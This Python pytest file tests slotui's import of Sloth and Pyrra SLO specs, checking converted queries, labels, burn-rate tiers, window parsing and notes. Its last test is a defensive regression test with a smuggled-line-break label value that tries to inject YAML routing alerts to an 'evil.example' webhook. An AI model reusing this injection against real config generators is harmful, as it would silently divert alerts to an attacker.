"""``slotui import``: Sloth specs/CRDs and Pyrra SLOs keep their meaning."""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from slotui.commands.import_ import import_files, render
from slotui.config.loader import load_text
from slotui.peers.pyrra import tiers as pyrra_tiers

PEERS = Path(__file__).resolve().parents[1] / "data" / "peers"
SLOTH = PEERS / "slok+sloth"
PYRRA = PEERS / "pyrra-dev+pyrra"
H, M, D = 3600, 60, 86400


def _import(*paths: Path | str):
    report = import_files([str(p) for p in paths])
    lc = load_text(render(report.config, report.notes, []), env={}) if report.imported else None
    return report, lc


def _tiers(spec):
    return [(t.severity, t.long_window, t.short_window, round(t.effective_factor(spec.period), 9))
            for t in spec.tiers]


SLOTH_DEFAULT_30D = [("critical", H, 5 * M, 14.4), ("critical", 6 * H, 30 * M, 6.0),
                     ("warning", D, 2 * H, 3.0), ("warning", 3 * D, 6 * H, 1.0)]


def test_sloth_spec_events_window_labels_and_default_alert_windows() -> None:
    report, lc = _import(SLOTH / "examples" / "getting-started.yml")
    assert report.skipped == []
    s = lc.spec("myservice-requests-availability")
    assert (s.kind, s.target, s.period) == ("ratio", 0.999, 30 * D)
    # Sloth's rates as increases: the same ratio, and the window's total counts events (min_events)
    assert s.total == 'sum(increase(http_request_duration_seconds_count{job="myservice"}[{{window}}]))'
    # no 5xx/429 series yet is 0 errors: "or (total) * 0", not an empty good
    assert s.good == ('(sum(increase(http_request_duration_seconds_count{job="myservice"}[{{window}}]))) - '
                      '((sum(increase(http_request_duration_seconds_count{job="myservice",code=~"(5..|429)"}[{{window}}])))'
                      ' or on() (sum(increase(http_request_duration_seconds_count{job="myservice"}[{{window}}]))) * 0)')
    # spec labels, alerting.labels (on both of Sloth's alerts) and the alert name
    assert dict(s.labels) == {"owner": "myteam", "repo": "myorg/myservice", "tier": "2", "service": "myservice",
                              "category": "availability", "alertname": "MyServiceHighErrorRate"}
    assert _tiers(s) == SLOTH_DEFAULT_30D


def test_sloth_crd_is_the_same_slo() -> None:
    _, spec_lc = _import(SLOTH / "examples" / "getting-started.yml")
    report, crd_lc = _import(SLOTH / "examples" / "k8s-getting-started.yml")
    a, b = spec_lc.spec("myservice-requests-availability"), crd_lc.spec("myservice-requests-availability")
    assert (a.good, a.total, a.target, a.tiers, dict(a.labels)) == (b.good, b.total, b.target, b.tiers, dict(b.labels))


def test_sloth_alerting_disabled_gives_no_tiers_and_99_99_is_exact() -> None:
    report, lc = _import(SLOTH / "examples" / "no-alerts.yml")
    s = lc.spec("myapp-http-availability")
    assert s.target == 0.9999
    assert s.tiers == ()


def test_sloth_raw_error_ratio() -> None:
    report, lc = _import(SLOTH / "examples" / "raw-home-wifi.yml")
    s = lc.spec("home-wifi-wifi-client-satisfaction")
    assert s.target == 0.95
    # one event per series of the ratio: no series at all is no data, as in Sloth's rules
    assert s.total.startswith("(1 - (\n  sum(sum_over_time(unifipoller_client_satisfaction_ratio[{{window}}]))")
    assert s.total.endswith(")) * 0 + 1")
    assert s.good.startswith("1 - (1 - (\n  sum(sum_over_time(unifipoller_client_satisfaction_ratio[{{window}}]))")
    assert s.good.endswith("))")


def test_sloth_sli_plugin_and_bad_objective_are_refused_by_name(tmp_path: Path) -> None:
    f = tmp_path / "s.yaml"
    f.write_text(textwrap.dedent("""\
        version: prometheus/v1
        service: svc
        slos:
          - name: ok
            objective: 99
            sli: {events: {error_query: 'sum(rate(e[{{.window}}]))', total_query: 'sum(rate(t[{{.window}}]))'}}
          - name: plug
            objective: 99
            sli: {plugin: {id: some_plugin}}
          - name: over
            objective: 101
            sli: {events: {error_query: 'sum(rate(e[{{.window}}]))', total_query: 'sum(rate(t[{{.window}}]))'}}
        """))
    report, lc = _import(f)
    assert [s.name for s in lc.specs] == ["svc-ok"]
    assert [(s.document, s.reason) for s in report.skipped] == [
        ("document 1 at line 1 (Sloth spec 'svc') SLO 'plug'", "SLI plugin 'some_plugin' is not supported (its queries are not in the file)"),
        ("document 1 at line 1 (Sloth spec 'svc') SLO 'over'", "objective 101 is not a share between 0 and 1 (as a percentage)"),
    ]


def test_sloth_28d_windows_match_sloth_google_28d_factors() -> None:
    # Sloth's internal/alert/windows/google-28d.yaml: 2% / 1h, 5% / 6h, 10% / 1d, 10% / 3d of a 28-day budget
    f = SLOTH / "internal" / "alert" / "windows" / "google-28d.yaml"
    report, _ = _import(f)
    assert report.skipped[0].reason == "kind 'AlertWindows' holds no SLO (expected PrometheusServiceLevel)"
    from slotui.peers.common import sloth_tiers

    factors = [round(t["budget"] * 28 * 24 * H / {"1h": H, "6h": 6 * H, "1d": D, "3d": 3 * D}[t["long"]], 9)
               for t in sloth_tiers()]
    assert factors == [13.44, 5.6, 2.8, 0.933333333]


def test_pyrra_ratio_latency_and_bool_gauge() -> None:
    report, lc = _import(PYRRA / "examples" / "pyrra-connect-errors.yaml",
                         PYRRA / "examples" / "kubernetes" / "manifests" / "slos" / "slo-apiserver-read-cluster-latency.yaml",
                         PYRRA / "examples" / "prometheus-probe-success.yaml")
    assert report.skipped == []
    r = lc.spec("pyrra-connect-errors")
    assert (r.target, r.period) == (0.99, 14 * D)
    # grouping: [service, method] is the SLO's breakdown, the queries summed by ({{by}})
    total = 'sum by ({{by}}) (increase(connect_server_requests_total{job="pyrra"}[{{window}}]))'
    assert r.total == total
    assert r.good.startswith(f'({total}) - ((sum by ({{{{by}}}}) (increase(')
    assert r.good.endswith(f' or on({{{{by}}}}) ({total}) * 0)')
    assert r.breakdown == ("service", "method")
    assert dict(r.params) == {"grouping": ["service", "method"]}
    assert dict(r.labels) == {"prometheus": "k8s", "role": "alert-rules", "namespace": "monitoring"}
    lat = lc.spec("apiserver-read-cluster-latency")
    assert lat.good == ('sum(increase(apiserver_request_sli_duration_seconds_bucket{component="apiserver",'
                        'scope=~"cluster|",verb=~"LIST|GET",le="5.0"}[{{window}}]))')
    probe = lc.spec("prometheus-blackbox-probe-success")
    assert (probe.good, probe.total) == ("sum by ({{by}}) (sum_over_time(probe_success[{{window}}]))",
                                         "sum by ({{by}}) (count_over_time(probe_success[{{window}}]))")
    assert probe.breakdown == ("target",)
    assert probe.period == 7 * D


@pytest.mark.parametrize(("window", "want"), [
    ("28d", [("critical", "1h", "5m", 14.0), ("critical", "6h", "30m", 7.0), ("warning", "1d", "2h", 2.0),
             ("warning", "4d", "6h", 1.0)]),
    # 2w: 150 s rounds half away from zero to 3m, as Go's Duration.Round does
    ("14d", [("critical", "30m", "3m", 14.0), ("critical", "3h", "15m", 7.0), ("warning", "12h", "1h", 2.0),
             ("warning", "2d", "3h", 1.0)]),
])
def test_pyrra_windows_scale_with_the_slo_window(window: str, want: list) -> None:
    assert [(t["severity"], t["long"], t["short"], t["factor"]) for t in pyrra_tiers(window)] == want


def _pyrra_grouped(metric: str) -> dict:
    return {"apiVersion": "pyrra.dev/v1alpha1", "kind": "ServiceLevelObjective", "metadata": {"name": "api"},
            "spec": {"target": "99", "window": "28d", "indicator": {"ratio": {
                "errors": {"metric": metric.replace('job="api"', 'job="api",code=~"5.."')},
                "total": {"metric": metric}, "grouping": ["handler"]}}}}


def test_pyrra_grouping_is_a_breakdown() -> None:
    from slotui.peers.pyrra import convert

    [slo] = convert(_pyrra_grouped('http_requests_total{job="api"}')).slos
    assert slo["breakdown"] == ["handler"]
    assert slo["params"] == {"grouping": ["handler"]}
    assert "{{by}}" in slo["ratio"]["good"] and "{{by}}" in slo["ratio"]["total"]


def test_pyrra_metric_that_is_not_a_selector_is_refused() -> None:
    """Pyrra's metric is a series selector (its Internal() fails "ratio total metric is not a
    VectorSelector"); an aggregation was imported with a note that the grouping was lost."""
    from slotui.peers.common import Refused
    from slotui.peers.pyrra import convert

    with pytest.raises(Refused) as err:
        convert(_pyrra_grouped('sum by (handler) (http_requests_total{job="api"})'))
    assert str(err.value).startswith(
        "indicator.ratio.total.metric 'sum by (handler) (http_requests_total{job=\"api\"})' is not a series selector")


def test_sloth_queries_without_the_window_are_named_in_a_note(tmp_path: Path) -> None:
    """Sloth substitutes {{.window}}; a query with a fixed range reads the same ratio in every window
    (slotui's period budget would be the last 5 minutes'): imported as written, with a note."""
    spec = tmp_path / "sloth.yaml"
    spec.write_text(textwrap.dedent("""\
        version: prometheus/v1
        service: api
        slos:
          - name: fixed
            objective: 99.9
            sli: {events: {error_query: 'sum(rate(e[5m]))', total_query: 'sum(rate(t[5m]))'}}
          - name: templated
            objective: 99.9
            sli: {events: {error_query: 'sum(rate(e[{{.window}}]))', total_query: 'sum(rate(t[{{.window}}]))'}}
        """))
    report, lc = _import(spec)
    assert report.skipped == [] and lc.spec("api-fixed").total == "sum(rate(t[5m]))"
    assert [n for n in report.notes if "{{window}}" in n] == [
        f"{spec}: SLO 'api-fixed': its ratio queries do not use {{{{window}}}} (they look back a fixed range or "
        "not at all): every window (the SLO window, each burn-rate window, the period) reads the same ratio; "
        "write {{window}} (Sloth's {{.window}}) as their range"]


def test_sloth_page_and_ticket_annotations_are_named_in_the_note(tmp_path: Path) -> None:
    """A runbook or summary on only the page (or ticket) alert was dropped without a word."""
    spec = tmp_path / "sloth.yaml"
    spec.write_text(textwrap.dedent("""\
        version: prometheus/v1
        service: api
        slos:
          - name: a
            objective: 99.9
            sli: {events: {error_query: 'sum(rate(e[{{.window}}]))', total_query: 'sum(rate(t[{{.window}}]))'}}
            alerting:
              name: ApiHighErrorRate
              page_alert: {annotations: {runbook: "https://r.example/page"}}
              ticket_alert: {annotations: {summary: ticket}}
        """))
    report, lc = _import(spec)
    assert lc.spec("api-a").runbook is None
    assert report.notes == [f"{spec}: api-a: not carried over from Sloth's alerting: page alert annotations runbook; "
                            "ticket alert annotations summary (slotui's alert labels are per SLO, not per page or "
                            "ticket alert)"]


@pytest.mark.parametrize(("window", "waits"), [("28d", "2m, 15m, 1h, 3h"), ("7d", "1m, 4m, 15m, 45m"),
                                               ("30d", "2m, 16m, 1h4m, 3h13m")])
def test_pyrra_per_tier_for_is_named_in_a_note(tmp_path: Path, window: str, waits: str) -> None:
    """Pyrra's alerts wait for: window/20160, /2688, /672, /224 (2m, 15m, 1h, 3h at 28d; Go rounds
    to the minute, halves up: 7d/20160 = 30s -> 1m); slotui fires as soon as both windows burn."""
    slo = tmp_path / "pyrra.yaml"
    slo.write_text(textwrap.dedent(f"""\
        apiVersion: pyrra.dev/v1alpha1
        kind: ServiceLevelObjective
        metadata: {{name: p}}
        spec:
          target: "99.9"
          window: {window}
          indicator: {{ratio: {{errors: {{metric: e_total}}, total: {{metric: t_total}}}}}}
        """))
    report, lc = _import(slo)
    assert lc.spec("p").for_ == 0
    absent = (f"{slo}: p: Pyrra's SLOMetricAbsent alert (the metric is gone) not imported; in slotui a metric "
              "that is gone is NO DATA, which does not page (alert on absent() in Prometheus, or watch for NO DATA)")
    assert report.notes == [f"{slo}: p: Pyrra's alerts wait for: {waits} (one per tier); not imported "
                            "(slotui's for: is per SLO), so slotui's tiers fire as soon as both windows burn", absent]
    off = slo.read_text() + "  alerting: {burnrates: false, absent: false}\n"
    slo.write_text(off)
    assert _import(slo)[0].notes == []  # no alerts, nothing waits


def test_pyrra_absent_alert_and_per_group_alerts_are_named_in_notes(tmp_path: Path) -> None:
    """Pyrra's metric-absent alert is on by default (its CRD's ``absent: true``; ``absentName`` names it)
    and its alerts are per group: neither is in slotui's rules, and both went without a word."""
    slo = tmp_path / "pyrra.yaml"
    slo.write_text(textwrap.dedent("""\
        apiVersion: pyrra.dev/v1alpha1
        kind: ServiceLevelObjective
        metadata: {name: api}
        spec:
          target: "99"
          window: 4w
          indicator: {ratio: {errors: {metric: 'e_total{code=~"5.."}'}, total: {metric: t_total}, grouping: [handler]}}
          alerting: {absentName: ApiMetricAbsent}
        """))
    notes = _import(slo)[0].notes
    assert any("Pyrra's ApiMetricAbsent alert (the metric is gone) not imported" in n for n in notes)
    assert any("Pyrra alerts per handler (one SLO per group)" in n and "breakdown" in n for n in notes)


@pytest.mark.parametrize(("window", "period"), [("28d", 28 * D), ("1d12h", 36 * H), ("1y", 365 * D), ("2w", 14 * D)])
def test_pyrra_windows_are_prometheus_durations(tmp_path: Path, window: str, period: float) -> None:
    """Pyrra reads window with Prometheus' ParseDuration: 1d12h and 1y (365 days) were refused as
    'not a duration'."""
    slo = tmp_path / "pyrra.yaml"
    slo.write_text(textwrap.dedent(f"""\
        apiVersion: pyrra.dev/v1alpha1
        kind: ServiceLevelObjective
        metadata: {{name: p}}
        spec:
          target: "99.5"
          window: {window}
          indicator: {{ratio: {{errors: {{metric: e_total}}, total: {{metric: t_total}}}}}}
        """))
    report, lc = _import(slo)
    assert report.skipped == []
    assert lc.spec("p").period == period and lc.spec("p").target == 0.995


@pytest.mark.parametrize(("field", "reason"), [
    ("window: 1M", "window '1M' is not a duration (expected e.g. 7d, 28d, 4w, 1d12h)"),
    ("window: 0d", "window '0d' must be longer than 0"),
    ("indicator: {latencyNative: {total: {metric: h}}}",
     "latencyNative.latency None is not a duration (expected e.g. 100ms, 1s)"),
    ("indicator: {latencyNative: {total: {metric: h}, latency: 0s}}",
     "latencyNative.latency '0s' is not a duration (expected e.g. 100ms, 1s)"),
])
def test_pyrra_bad_window_or_latency_is_refused_naming_the_key(tmp_path: Path, field: str, reason: str) -> None:
    base = {"window": "window: 28d", "indicator": "indicator: {ratio: {errors: {metric: e}, total: {metric: t}}}"}
    base[field.split(":")[0]] = field
    slo = tmp_path / "pyrra.yaml"
    slo.write_text("apiVersion: pyrra.dev/v1alpha1\nkind: ServiceLevelObjective\nmetadata: {name: p}\nspec:\n"
                   "  target: '99'\n" + "".join(f"  {v}\n" for v in base.values()))
    report, _ = _import(slo)
    assert [s.reason for s in report.skipped] == [reason]


def test_kubectl_lists_of_pyrra_and_sloth_resources_are_imported(tmp_path: Path) -> None:
    """``kubectl get slo,prometheusservicelevels -o yaml`` prints a ``kind: List`` of ``items``
    (a Pyrra ServiceLevelObjectiveList the same way): refused as 'not an OpenSLO, Sloth or Pyrra
    document (apiVersion 'v1')' before."""
    pyrra = ("{apiVersion: pyrra.dev/v1alpha1, kind: ServiceLevelObjective, metadata: {name: %s}, spec: {target: '99',"
             " window: 28d, indicator: {ratio: {errors: {metric: e_total}, total: {metric: t_total}}}}}")
    text = textwrap.dedent(f"""\
        apiVersion: v1
        kind: List
        items:
          - {pyrra % "a"}
          - apiVersion: sloth.slok.dev/v1
            kind: PrometheusServiceLevel
            metadata: {{name: b}}
            spec:
              service: svc
              slos:
                - name: avail
                  objective: 99.9
                  sli: {{events: {{errorQuery: 'sum(rate(e[{{{{.window}}}}]))', totalQuery: 'sum(rate(t[{{{{.window}}}}]))'}}}}
          - apiVersion: pyrra.dev/v1alpha1
            kind: ServiceLevelObjectiveList
            items: [{pyrra % "c"}]
        ---
        - {pyrra % "d"}
        """)
    f = tmp_path / "list.yaml"
    f.write_text(text)
    report, lc = _import(f)
    assert report.skipped == []
    assert sorted(s.name for s in lc.specs) == ["a", "c", "d", "svc-avail"]
    assert lc.spec("c").target == 0.99 and lc.spec("svc-avail").target == 0.999


def test_a_short_pyrra_window_drops_only_the_tier_whose_windows_meet(tmp_path: Path) -> None:
    """window 12h: Pyrra's fastest tier is 12h/672 = 64s -> 1m long and 12h/8064 = 5s -> 1m short (at
    least 1m in slotui): a 1m/1m tier, which the loader refused, skipping the whole SLO."""
    slo = tmp_path / "pyrra.yaml"
    slo.write_text("apiVersion: pyrra.dev/v1alpha1\nkind: ServiceLevelObjective\nmetadata: {name: p}\n"
                   "spec: {target: '99', window: 12h, indicator: {ratio: {errors: {metric: e}, total: {metric: t}}}}\n")
    report, lc = _import(slo)
    assert report.skipped == []
    # 12h/112 = 6m26s -> 6m, 12h/1344 = 32s -> 1m; 12h/28 = 25m43s -> 26m, 12h/336 = 2m9s -> 2m;
    # 12h/7 = 1h42m51s -> 1h43m, 12h/112 -> 6m
    assert _tiers(lc.spec("p")) == [("critical", 6 * M, M, 7.0), ("warning", 26 * M, 2 * M, 2.0),
                                    ("warning", 103 * M, 6 * M, 1.0)]
    assert f"{slo}: p: the 1m/1m tier of a 12h window not imported (its short window is not shorter than its long " \
           "one)" in report.notes
    # Pyrra's for: 12h/20160 = 2s -> 0s, /2688 = 16s -> 0s, /672 = 64s -> 1m, /224 = 3m13s -> 3m
    assert any("Pyrra's alerts wait for: 0s, 0s, 1m, 3m (one per tier)" in n for n in report.notes)


@pytest.mark.parametrize("brk", ["\n", "\r", "\u2028", "\x85"])
def test_a_line_break_in_peer_text_cannot_write_yaml_into_the_imported_file(tmp_path: Path, brk: str) -> None:
    """Notes are written as '# note:' comments; a page-alert label value with a line break ended the
    comment, and the rest became YAML of the SLO file: here an alerts section sending every alert to
    someone else's webhook."""
    import yaml

    payload = f"x{brk}alerts: {{channels: {{evil: {{type: webhook, url: 'https://evil.example/'}}}}}} #"
    spec = tmp_path / "sloth.yaml"
    spec.write_text(yaml.safe_dump({"version": "prometheus/v1", "service": "api", "slos": [{
        "name": "a", "objective": 99.9,
        "sli": {"events": {"error_query": "sum(rate(e[{{.window}}]))", "total_query": "sum(rate(t[{{.window}}]))"}},
        "alerting": {"name": "X", "page_alert": {"labels": {"tier": payload}}}}]}, allow_unicode=True))
    report = import_files([str(spec)])
    text = render(report.config, report.notes, [str(spec)])
    assert "evil" in text  # named in the note, as text
    assert set(yaml.safe_load(text)) == {"version", "sources", "slos"}
    lc = load_text(text, env={})
    assert lc.config.alerts.channels == {}
    done = subprocess.run([sys.executable, "-m", "slotui", "import", str(spec)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and set(yaml.safe_load(done.stdout)) == {"version", "sources", "slos"}
    assert all(line.startswith(("note: ", "slotui")) for line in done.stderr.splitlines()), done.stderr
